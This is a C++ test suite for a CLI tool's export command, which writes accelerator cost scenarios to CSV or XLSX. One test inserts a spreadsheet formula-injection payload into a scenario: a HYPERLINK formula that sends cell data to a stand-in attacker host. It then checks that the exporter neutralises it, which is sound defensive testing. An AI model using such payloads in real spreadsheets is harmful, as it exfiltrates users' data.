// `acceldecide-cli export`, run as a process: CSV and XLSX files for an example scenario,
// evaluate's error lines for a bad one, clear errors for paths it cannot write, and an
// existing file replaced only by a complete new one.
#include "CliProcess.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace acceldecide::test {
namespace {

namespace fs = std::filesystem;

const std::string kSeed004 =
    std::string(ACCELDECIDE_SCENARIOS_DIR) + "/seed004-trn3-vs-h200-inference.json";

std::string fixturePath(const std::string &name)
{
    return std::string(ACCELDECIDE_TEST_FIXTURES) + "/" + name;
}

std::string readFile(const fs::path &path)
{
    std::ifstream file(path, std::ios::binary);
    std::ostringstream buffer;
    buffer << file.rdbuf();
    return buffer.str();
}

void writeFile(const fs::path &path, const std::string &text)
{
    std::ofstream(path, std::ios::binary) << text;
}

std::string unzip(const fs::path &archive, const std::string &member)
{
    const std::string command = "unzip -p '" + archive.string() + "' '" + member + "' 2>/dev/null";
    std::string output;
    if (FILE *pipe = popen(command.c_str(), "r")) {
        char buffer[4096];
        for (std::size_t n; (n = fread(buffer, 1, sizeof buffer, pipe)) > 0;)
            output.append(buffer, n);
        pclose(pipe);
    }
    return output;
}

class CliExport : public ::testing::Test
{
protected:
    void SetUp() override
    {
        std::string pattern =
            (fs::temp_directory_path() / "acceldecide-cli-export-XXXXXX").string();
        ASSERT_NE(mkdtemp(pattern.data()), nullptr);
        m_dir = pattern;
    }
    void TearDown() override { fs::remove_all(m_dir); }

    // Exit 2, nothing on stdout, every stderr line an "error: ..." line.
    static void expectInvalid(const ProcessResult &result)
    {
        EXPECT_EQ(result.exitCode, 2) << result.err;
        EXPECT_TRUE(result.out.empty()) << result.out;
        ASSERT_FALSE(result.err.empty());
        std::istringstream lines(result.err);
        for (std::string line; std::getline(lines, line);)
            EXPECT_EQ(line.rfind("error: ", 0), 0u) << line;
    }
    // Only `names` in the directory: no temporary file left behind.
    void expectFiles(std::vector<std::string> names) const
    {
        std::vector<std::string> found;
        for (const auto &entry : fs::directory_iterator(m_dir))
            found.push_back(entry.path().filename().string());
        std::sort(found.begin(), found.end());
        std::sort(names.begin(), names.end());
        EXPECT_EQ(found, names);
    }

    fs::path m_dir;
};

TEST_F(CliExport, WritesCsv)
{
    const fs::path out = m_dir / "seed004.csv";
    const ProcessResult result = runCli({"export", kSeed004, "-o", out.string()});
    ASSERT_EQ(result.exitCode, 0) << result.err;
    EXPECT_TRUE(result.err.empty()) << result.err;
    const std::string csv = readFile(out);
    EXPECT_EQ(csv.rfind("Inputs\r\n", 0), 0u);
    EXPECT_NE(csv.find("\r\n\r\nKey figures\r\n"), std::string::npos);
    EXPECT_NE(csv.find("\r\n\r\nMonthly\r\n"), std::string::npos);
    // Seed 004's port: 2 engineers x 3 weeks x 40 h x $150.
    EXPECT_NE(csv.find("One-time migration cost,$,0,0,36000,"), std::string::npos) << csv;
    EXPECT_EQ(csv.find(",="), std::string::npos) << "values, not formulas";
    expectFiles({"seed004.csv"});
}

// Tried as a new user would: a scenario whose option label is a HYPERLINK formula and
// whose name starts with "@" must not reach a spreadsheet as live formulas.
TEST_F(CliExport, CsvNeutralisesFormulaTextFromTheScenario)
{
    std::string scenario = readFile(kSeed004);
    const auto replace = [&](const std::string &from, const std::string &to) {
        const std::size_t at = scenario.find(from);
        ASSERT_NE(at, std::string::npos) << from;
        scenario.replace(at, from.size(), to);
    };
    replace("\"name\": \"Seed 004:", "\"name\": \"@SUM(1+1) Seed 004:");
    replace("\"label\": \"Trainium 3 per NeuronCore",
            "\"label\": \"=HYPERLINK(\\\"http://evil.example/\\\"&A1,\\\"click\\\") Trainium 3");
    const fs::path out = m_dir / "results.csv";
    const ProcessResult result = runCli({"export", "-", "-o", out.string()}, scenario);
    ASSERT_EQ(result.exitCode, 0) << result.err;
    const std::string csv = readFile(out);
    EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\") Trainium 3"),
              std::string::npos)
        << csv;
    for (const char trigger : {'=', '+', '@'}) {
        EXPECT_EQ(csv.find(std::string(",") + trigger), std::string::npos) << trigger;
        EXPECT_EQ(csv.find(std::string("\n") + trigger), std::string::npos) << trigger;
    }
    // Negative figures are numbers and stay so.
    EXPECT_EQ(csv.find(",\"'-"), std::string::npos);
}

TEST_F(CliExport, WritesXlsxWithFormulasFromStandardInput)
{
    const fs::path out = m_dir / "seed004.xlsx";
    const ProcessResult result =
        runCli({"export", "-", "--output", out.string()}, readFile(kSeed004));
    ASSERT_EQ(result.exitCode, 0) << result.err;
    const std::string keyFigures = unzip(out, "xl/worksheets/sheet2.xml");
    EXPECT_NE(keyFigures.find("<f>"), std::string::npos) << keyFigures.substr(0, 500);
    // trn3's one-time cost: a formula over the Inputs sheet with $36,000 cached.
    EXPECT_NE(keyFigures.find("</f><v>36000</v>"), std::string::npos);
    EXPECT_NE(unzip(out, "xl/worksheets/sheet3.xml").find("<f>"), std::string::npos);
    expectFiles({"seed004.xlsx"});
}

// With --database, prices come from the catalog and the Inputs section says so.
TEST_F(CliExport, CatalogPricesNameTheirSource)
{
    const std::string scenario = R"({"format": "acceldecide.scenario", "version": 1,
 "name": "catalog prices", "horizon_months": 12, "as_of": "2026-11-22",
 "workload": {"kind": "capacity"}, "baseline": "p5",
 "options": [
  {"id": "p5", "label": "p5", "stack": "cuda", "instance_type": "p5.48xlarge",
   "accelerators_per_instance": 8, "purchase": {"model": "on_demand"}, "instances": 1},
  {"id": "trn1", "label": "trn1", "stack": "neuron", "instance_type": "trn1.32xlarge",
   "accelerators_per_instance": 16, "purchase": {"model": "on_demand"}, "instances": 1}]})";
    const fs::path out = m_dir / "catalog.csv";
    const ProcessResult result = runCli(
        {"export", "-", "-o", out.string(), "--database", (m_dir / "catalog.sqlite").string()},
        scenario);
    ASSERT_EQ(result.exitCode, 0) << result.err;
    const std::string csv = readFile(out);
    for (const std::string option : {"p5", "trn1"}) {
        const std::string row = option + ",Instance price (on-demand),";
        const std::size_t at = csv.find(row);
        ASSERT_NE(at, std::string::npos) << csv;
        const std::string line = csv.substr(at, csv.find("\r\n", at) - at);
        EXPECT_NE(line.find(",$/h per instance,\"catalog: "), std::string::npos) << line;
    }
}

TEST_F(CliExport, InvalidScenarioGivesEvaluatesErrorsAndNoFile)
{
    for (const char *fixture : {"invalid-two-errors.json", "invalid-negative-throughput.json",
                                "invalid-truncated.json", "invalid-unknown-key.json"}) {
        SCOPED_TRACE(fixture);
        const ProcessResult evaluate = runCli({"evaluate", fixturePath(fixture)});
        const ProcessResult exported =
            runCli({"export", fixturePath(fixture), "-o", (m_dir / "out.xlsx").string()});
        expectInvalid(exported);
        EXPECT_EQ(exported.err, evaluate.err);
    }
    expectFiles({});
}

TEST_F(CliExport, UnwritablePathIsAClearError)
{
    const ProcessResult result = runCli({"export", kSeed004, "-o", "/nonexistent-dir/out.xlsx"});
    expectInvalid(result);
    EXPECT_EQ(result.err, "error: cannot write /nonexistent-dir/out.xlsx: the directory "
                          "/nonexistent-dir does not exist\n");

    fs::create_directory(m_dir / "taken.csv");
    const ProcessResult directory =
        runCli({"export", kSeed004, "-o", (m_dir / "taken.csv").string()});
    expectInvalid(directory);
    EXPECT_NE(directory.err.find("is a directory"), std::string::npos) << directory.err;
}

TEST_F(CliExport, ExistingFileIsReplacedOnlyOnSuccess)
{
    const fs::path out = m_dir / "results.xlsx";
    writeFile(out, "previous export");
    expectInvalid(runCli({"export", fixturePath("invalid-two-errors.json"), "-o", out.string()}));
    EXPECT_EQ(readFile(out), "previous export");
    expectInvalid(runCli({"export", fixturePath("does-not-exist.json"), "-o", out.string()}));
    EXPECT_EQ(readFile(out), "previous export");

    const ProcessResult result = runCli({"export", kSeed004, "-o", out.string()});
    ASSERT_EQ(result.exitCode, 0) << result.err;
    EXPECT_EQ(readFile(out).substr(0, 2), "PK");
    expectFiles({"results.xlsx"});
}

TEST_F(CliExport, UnknownExtensionIsNamed)
{
    const ProcessResult result = runCli({"export", kSeed004, "-o", (m_dir / "out.txt").string()});
    expectInvalid(result);
    EXPECT_NE(result.err.find("unknown extension \".txt\""), std::string::npos) << result.err;
    EXPECT_NE(result.err.find(".csv or .xlsx"), std::string::npos) << result.err;
    expectFiles({});
}

// Usage problems: exit 2, nothing on stdout, the problem and where to find the usage.
TEST_F(CliExport, BadCommandLines)
{
    const std::string out = (m_dir / "a.csv").string();
    for (const std::vector<std::string> &arguments : {std::vector<std::string>{"export", kSeed004},
                                                      {"export", "-o", out},
                                                      {"export", kSeed004, kSeed004, "-o", out},
                                                      {"export", kSeed004, "-o"},
                                                      {"export", kSeed004, "--output="},
                                                      {"export", kSeed004, "-o", out, "--bogus"}}) {
        const ProcessResult result = runCli(arguments);
        EXPECT_EQ(result.exitCode, 2) << arguments.back();
        EXPECT_TRUE(result.out.empty()) << result.out;
        EXPECT_EQ(result.err.rfind("error: export: ", 0), 0u) << result.err;
        EXPECT_NE(result.err.find("acceldecide-cli export --help"), std::string::npos);
    }
    expectFiles({});
}

TEST_F(CliExport, HelpListsEveryOption)
{
    for (const char *flag : {"--help", "-h"}) {
        const ProcessResult result = runCli({"export", flag});
        ASSERT_EQ(result.exitCode, 0) << result.err;
        for (const char *option : {"-o, --output PATH", "--database PATH", "-h, --help"})
            EXPECT_NE(result.out.find(option), std::string::npos) << flag << " lacks " << option;
    }
}

} // namespace
} // namespace acceldecide::test
